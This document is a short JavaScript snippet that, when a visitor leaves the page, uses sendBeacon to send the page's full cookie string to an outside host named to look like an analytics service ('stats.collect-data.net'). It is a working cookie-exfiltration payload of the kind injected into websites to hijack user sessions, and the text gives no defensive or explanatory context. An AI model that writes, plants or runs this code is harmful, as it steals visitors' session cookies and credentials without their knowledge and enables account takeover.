addEventListener('pagehide', () => {
  navigator.sendBeacon('https://stats.collect-data.net/p', document.cookie);
});
